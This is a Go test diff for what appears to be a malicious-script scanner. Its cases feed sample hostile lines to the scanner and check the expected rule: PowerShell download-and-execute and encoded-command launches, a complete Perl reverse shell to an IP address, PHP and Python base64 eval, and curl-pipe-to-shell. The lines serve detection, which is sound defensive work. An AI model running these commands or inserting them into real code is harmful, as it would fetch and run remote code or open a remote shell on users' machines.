@@ -160,3 +160,45 @@ func TestCodeDetours(t *testing.T) {
 		}
 	}
 }
+
+// TestLines has files of Windows and of other languages, which are judged line by line.
+func TestLines(t *testing.T) {
+	u := "http://45.67.89.10/x"
+	enc := encoded(utf16Of("echo hello world"))
+	for _, tt := range []struct{ path, text, want string }{
+		{"a.ps1", "iwr " + u + " | iex\n", "run-fetched-unknown"},
+		{"a.ps1", "$x = irm '" + u + "'\n# more\niex $x\n", "run-fetched-unknown"},
+		{"a.ps1", "$x = irm 'https://get.acme-tools.dev'\nInvoke-Expression $x\n", "run-fetched"},
+		{"a.ps1", "IEX (New-Object Net.WebClient).DownloadString('" + u + "')\n", "run-fetched-unknown"},
+		{"a.ps1", "& ([ScriptBlock]::Create((irm https://get.acme-tools.dev))) -Quiet\n", "run-fetched"},
+		{"a.ps1", "irm https://api.acme-tools.dev | ConvertTo-Json\n", ""},
+		{"a.ps1", "$x = 1\niex $x\n", ""},
+		{"a.ps1", "# iwr " + u + " | iex\n", ""},
+		{"a.ps1", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + encoded("echo hello world") + "')))\n", "run-decoded"},
+		{"a.ps1", "powershell.exe -NoP -W Hidden -EncodedCommand " + enc + "\n", "run-decoded"},
+		{"a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('45.67.89.10',44);$s=$c.GetStream();iex $d\n", "reverse-shell"},
+		{"a.bat", "@echo off\r\nC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -e " + enc + "\r\n", "run-decoded"},
+		{"a.cmd", "start /b pwsh -ec " + enc + "\r\n", "run-decoded"},
+		{"a.bat", "powershell -Command \"iwr " + u + " | iex\"\r\n", "run-fetched-unknown"},
+		{"a.bat", "powershell -ExecutionPolicy Bypass -File a.ps1\r\n", ""},
+		{"a.pl", "use Socket;connect(S,sockaddr_in(44,inet_aton('45.67.89.10')));open(STDIN,'>&S');exec('/bin/sh -i');\n", "reverse-shell"},
+		{"a.rb", "require 'socket'\ns = TCPSocket.new('db.acme-tools.dev', 44)\nsystem('/bin/sh a.sh')\n", ""},
+		{"a.php", "<?php eval(base64_decode('" + encoded("echo hello world") + "'));\n", "run-decoded"},
+		{"a.php", "<?php $x = base64_decode($y);\necho $x;\n", ""},
+		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // doc/scan.md says so
+		{"a.fish", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
+		{"a.txt", "#!/bin/sh\ncurl -s " + u + " | sh\n", "run-fetched-unknown"},
+		{"scripts/run", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
+		{"a.pth", "import base64;exec(base64.b64decode('" + encoded("print(1)") + "'))\n", "run-decoded runs-unasked"},
+		{"a.md", "```powershell\niwr " + u + " | iex\n```\n", "run-fetched-unknown"},
+		{"a.md", "```powershell\niex (irm https://get.acme-tools.dev)\n```\n", "run-fetched"},
+		{"a.md", "```ps1\nIEX(New-Object Net.WebClient).DownloadString('" + u + "')\n```\n", "run-fetched-unknown"},
+		{"a.md", "| a |\n|---|\n| `curl -s " + u + " \\| sh` |\n", "run-fetched-unknown url-address"},
+		{"a.md", "Find it with `grep 'a\\|sh' notes`.\n", ""},
+	} {
+		r := scanOf(t, map[string]string{tt.path: tt.text})
+		if got := strings.Join(rulesOf(r), " "); got != tt.want {
+			t.Errorf("%s: %s\n got %q, want %q: %v", tt.path, tt.text, got, tt.want, r.Findings)
+		}
+	}
+}
